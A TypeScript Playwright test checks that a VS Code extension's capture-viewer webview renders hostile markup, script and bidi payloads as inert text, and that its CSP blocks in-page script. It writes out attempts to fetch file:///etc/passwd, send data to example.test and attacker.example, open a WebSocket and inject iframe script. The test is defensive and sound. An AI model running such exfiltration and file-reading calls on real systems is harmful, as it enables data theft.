// Attacks on the webview, in Chromium under the real page and CSP: a capture whose every field
// (and a sidecar whose every text) carries markup, script, URL and invisible-character payloads is
// opened in every view, tab, form and menu. Nothing may become an element or an attribute, run,
// fetch, navigate or open a dialog, and control and bidi characters must be shown as markers.
// Then script run inside the page (standing in for an injection that got through) tries to reach
// files and the network: the CSP must refuse each attempt, and the page's CSP is asserted as text.
import assert from 'node:assert/strict';
import { mkdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import type { Browser, Page } from 'playwright-core';
import { loadCapture } from '../../extension/core/load/index';
import type { Capture } from '../../extension/core/model';
import type { SessionView } from '../../extension/editor/session';
import { contentSecurityPolicy } from '../../extension/editor/webviewHtml';
import { launchChromium, openWebview, ORIGIN, type OpenWebview } from './harness';
import { FILE_NAME, hostileHar, hostileSidecar, P } from './hostileCapture';
import { newEffects, session } from './session';

const SHOTS = resolve(__dirname, '../../../test-output/webview');
/** Tags that must never appear but as the page's own (its script, two stylesheets, three metas). */
const FORBIDDEN_TAGS = ['script', 'img', 'svg', 'iframe', 'frame', 'object', 'embed', 'meta', 'link', 'style', 'base', 'form', 'a', 'video', 'audio', 'source'];

/** A raw NUL or right-to-left override: what the page must show as a marker instead. */
function hasRawHidden(text: string): boolean {
  return text.includes('\u0000') || text.includes('\u202E');
}

interface PageReport {
  forbidden: string[];
  pwned: unknown;
  violations: string[];
  dialogs: string[];
}

/** What script in the page sees: forbidden elements and attributes (shadow roots included), the flag, CSP violations, dialogs. */
const INSPECT = `(() => {
  const forbidden = [];
  const tags = new Set(${JSON.stringify(FORBIDDEN_TAGS)});
  const own = (el, inShadow) => {
    const tag = el.localName;
    // The components' own: their icons, and the codicon stylesheet they link into their shadow roots.
    if (inShadow && tag === 'svg') return true;
    if (inShadow && tag === 'link') return el.href === '${ORIGIN}/codicon.css';
    if (tag === 'script') return el.parentNode === document.body && el.src === '${ORIGIN}/main.js';
    if (tag === 'link') return el.parentNode === document.head && /^${ORIGIN.replace(/[./]/g, '\\$&')}\\/(codicon|styles)\\.css$/.test(el.href);
    if (tag === 'meta') return el.parentNode === document.head && ['', 'Content-Security-Policy', 'content-security-policy'].includes(el.httpEquiv) && !/refresh/i.test(el.content);
    return false;
  };
  const visit = (root, inShadow) => {
    for (const el of root.querySelectorAll('*')) {
      if (tags.has(el.localName) && !own(el, inShadow)) forbidden.push('<' + el.localName + '>');
      for (const a of el.attributes) {
        if (/^on/i.test(a.name)) forbidden.push(el.localName + ' ' + a.name);
        if (/^(href|src|srcdoc|action|formaction|xlink:href|background|poster|data|style)$/i.test(a.name) && !own(el, inShadow) && !(a.name === 'style' && !/url\\(|attacker|expression/i.test(a.value))) forbidden.push(el.localName + ' ' + a.name + '=' + a.value.slice(0, 60));
      }
      if (el.shadowRoot) visit(el.shadowRoot, true);
    }
  };
  visit(document, false);
  if (document.querySelectorAll('meta').length !== 3) forbidden.push('metas: ' + document.querySelectorAll('meta').length);
  return { forbidden, pwned: globalThis.__pwned, violations: globalThis.__violations.slice(), dialogs: globalThis.__dialogs.slice() };
})()`;

/** Installed before the page's own script: records CSP violations, dialogs, window.open and added elements of forbidden tags. */
const WATCH = `(() => {
  globalThis.__violations = [];
  globalThis.__dialogs = [];
  document.addEventListener('securitypolicyviolation', (e) => globalThis.__violations.push(e.effectiveDirective + ' ' + e.blockedURI), true);
  for (const name of ['alert', 'confirm', 'prompt', 'print', 'open']) {
    globalThis[name] = (...args) => { globalThis.__dialogs.push(name + ' ' + String(args[0]).slice(0, 60)); return null; };
  }
})()`;

describe('webview attacks in Chromium', function () {
  this.timeout(120_000);
  let browser: Browser;
  let capture: Capture;
  let web: OpenWebview;
  let page: Page;
  /** Everything the browser was asked to load, dialogs it raised, frames it navigated, windows it opened. */
  const requests: string[] = [];
  const dialogs: string[] = [];
  const navigations: string[] = [];
  const popups: string[] = [];
  const failed = new Map<string, string>();

  before(async () => {
    mkdirSync(SHOTS, { recursive: true });
    browser = await launchChromium();
    capture = loadCapture(hostileHar(), FILE_NAME);
    const effects = newEffects();
    const view: SessionView = session(capture, effects, { sidecar: hostileSidecar(capture) });
    view.fileName = FILE_NAME;
    // As the editor answers a reveal: the message names the capture file.
    if (view.effects) view.effects.reveal = async (id) => `Opened ${FILE_NAME} as text at entry ${id}`;
    web = await openWebview(browser, view, { size: { width: 1400, height: 1000 } });
    page = web.page;
    effects.post = (message) => web.post(message);
    page.on('request', (r) => requests.push(r.url()));
    page.on('dialog', (d) => {
      dialogs.push(`${d.type()} ${d.message()}`);
      void d.dismiss();
    });
    page.on('popup', (p) => popups.push(p.url()));
    page.on('requestfailed', (r) => failed.set(r.url(), r.failure()?.errorText ?? ''));
    // The watchers must be in place before the page's script runs: load it again with them.
    await page.addInitScript(WATCH);
    await page.reload();
    page.on('framenavigated', (f) => navigations.push(f.url()));
    await page.locator('.table-row:not(.loading) .col-id', { hasText: /^4$/ }).waitFor();
  });

  after(async () => {
    await page?.screenshot({ path: join(SHOTS, 'attacks.png') });
    await browser?.close();
  });

  async function inspect(where: string): Promise<void> {
    const report = await page.evaluate<PageReport>(INSPECT);
    assert.deepEqual(report.forbidden, [], `${where}: no element or attribute from the capture`);
    assert.equal(report.pwned, undefined, `${where}: no payload ran`);
    assert.deepEqual(report.violations, [], `${where}: nothing the CSP had to block`);
    assert.deepEqual([...report.dialogs, ...dialogs, ...popups], [], `${where}: no dialog or window`);
    assert.deepEqual(navigations, [], `${where}: no navigation`);
    assert.deepEqual(web.strayRequests, [], `${where}: no request left the page`);
    assert.ok(requests.every((u) => u.startsWith(`${ORIGIN}/`)), `${where}: only the page's own files were loaded: ${requests.filter((u) => !u.startsWith(`${ORIGIN}/`)).join(', ')}`);
    assert.deepEqual(web.errors, [], `${where}: no console error`);
    assert.deepEqual(web.dropped, [], `${where}: every message the page sent was valid`);
  }

  const row = (id: number) => page.locator('.table-row', { has: page.locator('.col-id', { hasText: new RegExp(`^${id}$`) }) });

  /** Select a request and wait until the details show it (they are fetched from the host). */
  async function openDetail(id: number): Promise<void> {
    await row(id).locator('.col-id').click();
    // The URL's end, which is plain ASCII in every request of the hostile capture.
    const end = capture.exchanges[id].request.url.slice(-8);
    assert.match(end, /^[\x20-\x7e]+$/);
    await page.locator('.detail-url').filter({ hasText: end }).waitFor();
  }

  it('the page carries exactly the CSP webviewHtml builds: default-src \'none\', a nonce for scripts, no unsafe-*', async () => {
    const { csp, nonce } = await page.evaluate<{ csp: string; nonce: string }>(
      `({ csp: document.querySelector('meta[http-equiv="Content-Security-Policy"]').content, nonce: document.querySelector('script').nonce })`,
    );
    assert.match(nonce, /^[A-Za-z0-9+/]{22}==$/, '128 random bits');
    assert.equal(csp, contentSecurityPolicy(ORIGIN, nonce));
    assert.equal(
      csp,
      `default-src 'none'; script-src 'nonce-${nonce}'; style-src ${ORIGIN} 'nonce-${nonce}'; font-src ${ORIGIN}; img-src ${ORIGIN}`,
    );
    assert.doesNotMatch(csp, /unsafe-inline|unsafe-eval|unsafe-hashes|\*|data:|blob:/);
  });

  it('the header, warnings and summary show the payloads as text, with markers for bidi and control characters', async () => {
    const header = (await page.locator('.capture-header').textContent()) ?? '';
    assert.ok(header.includes(`evil⟨U+202E⟩gnp.exe${P.img}.har`), `file name as text with the bidi override marked: ${header.slice(0, 200)}`);
    assert.ok(!header.includes('\u202E'), 'no raw U+202E');
    const producer = (await page.locator('[data-fact="Producer"]').textContent()) ?? '';
    assert.ok(producer.startsWith(`⟨U+202E⟩gnp.exe nul␀byte creator ${P.script}`), `producer: ${producer.slice(0, 200)}`);
    assert.ok(!hasRawHidden(producer), 'no raw NUL or U+202E');
    await page.locator('.warnings').click();
    await inspect('header and warnings');
  });

  it('the request table: payloads as text in every cell and tooltip, markers for U+202E and NUL', async () => {
    const host = row(0).locator('.col-host');
    assert.equal(await host.textContent(), 'evil⟨U+202E⟩gnp.exe.test');
    assert.equal(await host.getAttribute('title'), 'evil⟨U+202E⟩gnp.exe.test');
    const path = (await row(0).locator('.col-path').textContent()) ?? '';
    assert.ok(path.includes('raw⟨U+202E⟩gnp.exe␀') || path.includes('raw⟨U+202E⟩gnp.exenul␀byte'), `path: ${path.slice(-120)}`);
    assert.equal(await row(4).locator('.col-method').textContent(), 'GE⟨U+202E⟩gnp.exeT');
    assert.equal(await row(3).locator('.col-mime').textContent(), 'text/html⟨U+202E⟩gnp.exe');
    const table = (await page.locator('.request-table').textContent()) ?? '';
    assert.ok(!hasRawHidden(table), 'no raw NUL or U+202E in the table');
    // The host filter lists the host as text.
    const hosts = await page.locator('.filter-host vscode-option').allTextContents();
    assert.ok(hosts.some((t) => t.includes('evil⟨U+202E⟩gnp.exe.test')), `host filter options: ${hosts.join(' | ')}`);
    await inspect('request table');
  });

  it('the details of every request, every tab and decoded layer: inert text with visible markers', async () => {
    for (let id = 0; id < capture.exchanges.length; id++) {
      await openDetail(id);
      for (const tab of ['overview', 'headers', 'query', 'cookies', 'request-body', 'response-body']) {
        const header = page.locator(`.detail-tab-header[data-tab="${tab}"]`);
        if ((await header.count()) === 0) continue;
        await header.click();
      }
      await inspect(`details of #${id}`);
    }
    // #0's headers: the bidi override and NUL of a header shown as markers, the payload as text.
    await openDetail(0);
    await page.locator('.detail-tab-header[data-tab="headers"]').click();
    const headers = (await page.locator('.detail-pane').textContent()) ?? '';
    assert.ok(headers.includes('X-⟨U+202E⟩gnp.exe-Name'), 'header name with its marker');
    assert.ok(headers.includes(`${P.script}nul␀byte`), 'a NUL as ␀');
    assert.ok(headers.includes(P.img) && headers.includes(P.iframe) && headers.includes(P.template), 'payloads as text');
    assert.ok(headers.includes('lone⟨U+D800⟩half'), 'the lone surrogate marked');
    assert.ok(!hasRawHidden(headers), 'no raw NUL or U+202E in the details');
    // #4's binary response: escape sequences in the hex dump's text column are dots, never raw.
    await openDetail(4);
    await page.locator('.detail-tab-header[data-tab="response-body"]').click();
    const body = (await page.locator('.detail-pane').textContent()) ?? '';
    assert.ok(!['\u0000', '\u0001', '\u001b'].some((c) => body.includes(c)), 'no raw control character in the binary body');
    await inspect('details re-opened');
  });

  it('the findings view, the annotations (cards, orphans, judgements), the known values: inert, markers visible', async () => {
    await row(0).locator('.col-id').click();
    const card = page.locator('.detail-annotations .annotation-card').first();
    await card.waitFor();
    const cardText = (await card.textContent()) ?? '';
    assert.ok(cardText.includes(P.script) && cardText.includes('second line ⟨U+202E⟩gnp.exe'), `card: ${cardText.slice(0, 200)}`);
    assert.deepEqual(await card.locator('.annotation-tag').allTextContents(), [P.img, '⟨U+202E⟩gnp.exe', P.script]);
    await page.locator('.annotation-status').waitFor();
    const orphan = page.locator('.annotation-orphan');
    assert.equal(await orphan.getAttribute('data-annotation'), `orphan${P.bidi}`, 'an id is data, kept as it is in an attribute');
    assert.ok(((await orphan.locator('.annotation-orphan-title').textContent()) ?? '').startsWith(`orphan ${P.script}`));
    const reason = (await orphan.locator('.annotation-orphan-reason').textContent()) ?? '';
    assert.ok(reason.includes('⟨U+202E⟩') && !hasRawHidden(reason), `the orphan's reason as text, override marked: ${reason}`);
    // The known values panel (the sidecar's list holds a payload).
    await page.locator('.known-section').click();
    await page.locator('.known-panel').waitFor();
    await inspect('annotations and known values');
    // The findings view: hostile JSON keys in the "where" column.
    await page.locator('.filter-view').evaluate((el) => {
      (el as unknown as { value: string }).value = 'findings';
      el.dispatchEvent(new Event('change'));
    });
    await page.locator('.table-row:not(.loading) .col-where').first().waitFor();
    const where = await page.locator('.table-row .col-where').allTextContents();
    assert.ok(where.length > 0 && where.every((w) => !hasRawHidden(w)), `no raw controls in the findings' where column: ${where.join(' | ').slice(0, 300)}`);
    await inspect('findings view');
    await page.locator('.filter-view').evaluate((el) => {
      (el as unknown as { value: string }).value = 'requests';
      el.dispatchEvent(new Event('change'));
    });
    await row(0).waitFor();
  });

  it('the row menu, the annotation form and a host message naming the file: inert, markers visible', async () => {
    await row(0).locator('.col-host').click({ button: 'right' });
    const menu = page.getByRole('menu');
    await menu.waitFor();
    await inspect('row menu');
    await menu.getByRole('menuitem', { name: 'Reveal in raw text' }).click();
    // The status line: the host's message names the capture file; its override is marked.
    const status = page.locator('.status-line', { hasText: 'as text at entry 0' });
    await status.waitFor();
    assert.equal(await status.textContent(), `Opened evil⟨U+202E⟩gnp.exe${P.img}.har as text at entry 0`);
    await page.locator('.annotate-button').click();
    const form = page.locator('.annotation-form');
    await form.waitFor();
    await inspect('annotation form');
    await page.keyboard.press('Escape');
    await form.waitFor({ state: 'detached' });
  });

  it('script run in the page cannot reach files or the network: the CSP blocks fetch, images, inline script, eval and frames', async () => {
    await inspect('before the in-page attempts');
    const outcome = await page.evaluate<Record<string, string>>(`(async () => {
      const out = {};
      const attempt = async (name, run) => { try { out[name] = 'allowed: ' + String(await run()); } catch (e) { out[name] = 'blocked: ' + (e && e.name); } };
      await attempt('fetch file', () => fetch('file:///etc/passwd').then((r) => r.status));
      await attempt('fetch remote', () => fetch('https://example.test/leak?d=1').then((r) => r.status));
      await attempt('fetch workspace resource', () => fetch('https://file+.vscode-resource.vscode-cdn.net/etc/passwd').then((r) => r.status));
      await attempt('XMLHttpRequest', () => new Promise((ok, fail) => { const x = new XMLHttpRequest(); x.onload = () => ok(x.status); x.onerror = () => fail(new TypeError('xhr')); x.open('GET', 'https://example.test/xhr'); x.send(); }));
      await attempt('image of a workspace file', () => new Promise((ok, fail) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => fail(new TypeError('img')); i.src = 'https://file+.vscode-resource.vscode-cdn.net/home/user/project/secret.png'; }));
      await attempt('image from the network', () => new Promise((ok, fail) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => fail(new TypeError('img')); i.src = 'https://attacker.example/pixel.png'; }));
      await attempt('inline script', () => new Promise((ok, fail) => { const s = document.createElement('script'); s.textContent = 'window.__pwned = "inline"'; document.body.append(s); setTimeout(() => (globalThis.__pwned ? ok('ran') : fail(new TypeError('did not run'))), 100); s.remove(); }));
      await attempt('eval', () => eval('1 + 1'));
      await attempt('Function', () => new Function('return 2')());
      await attempt('iframe srcdoc', () => new Promise((ok, fail) => { const f = document.createElement('iframe'); f.srcdoc = '<script>parent.__pwned = "frame"<\\/script>'; document.body.append(f); setTimeout(() => { f.remove(); globalThis.__pwned ? ok('ran') : fail(new TypeError('did not run')); }, 300); }));
      await attempt('WebSocket', () => new Promise((ok, fail) => { const w = new WebSocket('wss://attacker.example/ws'); w.onopen = () => ok('open'); w.onerror = () => fail(new TypeError('ws')); }));
      out.pwned = String(globalThis.__pwned);
      out.violations = globalThis.__violations.join(' | ');
      return out;
    })()`);
    console.log(`      in-page attempts: ${JSON.stringify(outcome, null, 2).replace(/\n/g, '\n      ')}`);
    for (const name of ['fetch file', 'fetch remote', 'fetch workspace resource', 'XMLHttpRequest', 'image of a workspace file', 'image from the network', 'inline script', 'iframe srcdoc', 'WebSocket']) {
      assert.match(outcome[name] ?? '', /^blocked/, `${name}: ${outcome[name]}`);
    }
    assert.equal(outcome.eval, 'blocked: EvalError');
    assert.equal(outcome.Function, 'blocked: EvalError');
    assert.equal(outcome.pwned, 'undefined');
    // Each was refused by the policy itself (securitypolicyviolation events), not by chance.
    const violations = outcome.violations ?? '';
    assert.match(violations, /connect-src file/);
    assert.match(violations, /connect-src https:\/\/example\.test/);
    assert.match(violations, /connect-src https:\/\/file\+\.vscode-resource\.vscode-cdn\.net/);
    assert.match(violations, /img-src https:\/\/file\+\.vscode-resource\.vscode-cdn\.net/);
    assert.match(violations, /img-src https:\/\/attacker\.example/);
    assert.match(violations, /script-src-elem inline/);
    assert.match(violations, /script-src eval/);
    // The srcdoc frame inherits the page's CSP: its script is refused there (the event fires in the frame's document).
    assert.match(violations, /connect-src wss:\/\/attacker\.example/);
    // Blocked before the network: nothing reached the page's request handler, and every request
    // the browser began for them failed as blocked by the CSP.
    assert.deepEqual(web.strayRequests, []);
    const begun = requests.filter((u) => !u.startsWith(`${ORIGIN}/`));
    for (const url of begun) assert.equal(failed.get(url), 'csp', `${url} failed as blocked by the CSP`);
  });
});
